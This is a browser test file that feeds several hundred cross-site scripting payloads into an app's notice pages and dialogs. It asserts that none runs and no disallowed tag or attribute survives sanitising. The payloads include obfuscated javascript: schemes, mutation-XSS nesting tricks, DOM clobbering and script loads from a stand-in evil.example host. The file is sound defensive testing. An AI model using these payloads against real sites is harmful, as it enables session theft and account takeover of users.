// Proves in a real browser that nothing of an operator's HTML runs or stays beyond text, links and pictures, whatever the server
// let through: many payloads in each place that draws HTML.
import type { Page } from '@playwright/test';
import { logIn } from '../pages/login-page.ts';
import { customers, expect, leaveOut, test } from '../test.ts';

const run = 'top.hasRun=1';
const handlers = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onbegin'];
const hosts = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'iframe',
  'marquee',
  'math',
  'p',
];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '&#106;avascript:',
  ' javascript:',
  'data:text/html,',
  'vbscript:',
];
const carriers = [
  'a href',
  'form action',
  'iframe src',
  'object data',
  'embed src',
  'base href',
  'link rel=import href',
  'area href',
];
const odd = [
  `<script>${run}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<svg><script>${run}</script></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<a href="https://evil.example" target=_top onclick=${run}>x</a>`,
  `<svg><animate attributeName=href values="javascript:${run}" /><a><text>x</text></a></svg>`,
  `<style>@import "//evil.example/x.css"; *{background:url(//evil.example)}</style>`,
  `<img src="x" srcset="//evil.example/a.png 1x" style="background:url(//evil.example)">`,
  `<p id=root class=stage name=body style="position:fixed;inset:0">x</p>`,
  `<input name=attributes><form id=parentNode><input name=nodeName></form>`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<a href="//evil.example">x</a><a href="/\\evil.example">x</a>`,
];
const payloads = [
  ...odd,
  ...hosts.flatMap((host) => handlers.map((handler) => `<${host} ${handler}=${run}>`)),
  ...hosts.flatMap((host) => handlers.map((handler) => `<${host}/${handler.toUpperCase()}="${run}"//>`)),
  ...carriers.flatMap((carrier) =>
    schemes.map((scheme) => `<${carrier}="${scheme}${run}">x</${carrier.split(' ')[0]}>`),
  ),
  ...hosts.flatMap((host) => odd.map((inner) => `<${host}>${inner}</${host.split(' ')[0]}>`)),
];
const perText = 60;
const texts = Array.from({ length: Math.ceil(payloads.length / perText) }, (_, i) =>
  payloads.slice(i * perText, (i + 1) * perText).join('\n<p>--</p>\n'),
);
const last = '<p>The end</p>';

const tags =
  'H1 H2 H3 H4 P BR HR PRE UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD B STRONG I EM U S SPAN CODE A IMG'.split(' ');
const attributes = ['href', 'src', 'alt', 'colspan', 'rowspan', 'loading', 'referrerpolicy'];

/** What of a drawn text should not be there. */
async function strangersIn(page: Page): Promise<string[]> {
  await expect(page.getByText('The end').last()).toBeAttached();
  return page.evaluate(
    ([tags, attributes]) => {
      const ground = [...document.querySelectorAll('p')].findLast((p) => p.textContent === 'The end')?.closest('div');
      const found = [...(ground?.querySelectorAll('*') ?? [])].flatMap((element) => [
        ...(tags?.includes(element.tagName) ? [] : [element.tagName]),
        ...[...element.attributes]
          .filter(({ name, value }) => !attributes?.includes(name) || (name === 'href' && !/^\/[^/\\]/.test(value)))
          .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
      ]);
      return 'hasRun' in window ? ['a payload ran', ...found] : found;
    },
    [tags, attributes],
  );
}

test.use({ notices: true });

test(`${payloads.length} payloads in a detail page and in a forced notice: none runs, none stays`, async ({
  page,
  context,
}) => {
  test.slow();
  await leaveOut(context, 'popups');
  let text = '';
  const answer = (data: unknown) => ({ json: { code: 200, message: 'ok', data } });
  await context.route('**/api/notice/detail*', (route) =>
    route.fulfill(answer({ id: '1', title: 'x', content: text + last, publishTime: '2026-11-19T02:00:00.000Z' })),
  );
  await context.route('**/api/force_notify/list*', (route) =>
    route.fulfill(answer(text === '' ? [] : [{ id: '1', img: null, content: text + last }])),
  );
  await logIn(page, customers.main);
  for (text of texts) {
    await page.goto('/detail?id=1&type=Notice');
    expect(await strangersIn(page)).toEqual([]);
    await page.goto('/index');
    await expect(page.getByRole('dialog')).toBeVisible();
    expect(await strangersIn(page)).toEqual([]);
  }
});
